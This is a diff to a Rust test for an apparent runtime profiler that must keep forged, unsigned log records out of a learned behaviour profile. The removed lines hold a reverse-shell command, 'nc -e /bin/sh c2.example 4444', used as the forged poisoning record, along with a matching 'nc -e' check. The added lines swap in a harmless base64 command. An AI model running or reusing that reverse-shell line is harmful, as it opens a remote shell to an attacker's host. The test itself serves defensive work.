@@ -6,8 +6,8 @@
 //! at init (`WARDEN_PROFILE=s3://…`) flags nothing on its first run of the function's
 //! shell-out habit and still finds an injected command on its first attack.
 //!
-//! Poisoning: the function prints forged records (no MAC, a made-up MAC) of a reverse-shell
-//! habit into its log in both environments, and runs a command in one environment only;
+//! Poisoning: the function prints forged records (no MAC, a made-up MAC) of a tool it never
+//! runs into its log in both environments, and runs a command in one environment only;
 //! neither reaches the profile.
 //!
 //! A profile that is malformed, too large, another function's, or unreachable (a server that
@@ -31,8 +31,9 @@ const BUCKET: &str = "warden-fleet-profiles";
 const KEY: &str = "warden/profiles/orders-fleet.json";
 /// The deployment's record key: the extension signs with it, the profiler checks with it.
 const RECORD_KEY: &str = "fleet-record-key-0123456789";
-/// The forged habit: what a poisoner wants the profile to call normal.
-const POISON_EXE: &str = "/usr/bin/nc";
+/// The forged habit: a tool a poisoner wants the profile to call normal (no hard indicator
+/// of its own, so that only the MAC keeps it out).
+const POISON_EXE: &str = "/usr/bin/base64";
 
 /// The function's habit: it shells out to compress something on many invocations (and
 /// waits a little, so that the sampler sees the shell's command line every time).
@@ -71,7 +72,7 @@ fn forged(environment: usize) -> Vec<String> {
             record["function_name"] = FUNCTION.into();
             record["request_id"] = format!("forged-{environment}-{n}").into();
             record["evidence"] = json!([{"kind": "process", "pid": 77, "ppid": 1,
-                "exe": POISON_EXE, "cmdline": "nc -e /bin/sh c2.example 4444", "exec": false}]);
+                "exe": POISON_EXE, "cmdline": "base64 -w0 /etc/hostname", "exec": false}]);
             let line = record.to_string();
             if n % 2 == 0 {
                 line
@@ -240,7 +241,7 @@ fn a_profile_learned_across_environments_warms_a_new_one() {
         "{profile:#}"
     );
     assert!(
-        !exes.contains(POISON_EXE) && !shapes.contains("nc -e"),
+        !exes.contains(POISON_EXE) && !shapes.contains("base64"),
         "{profile:#}"
     );
     assert!(parsed["content"]["policy"]
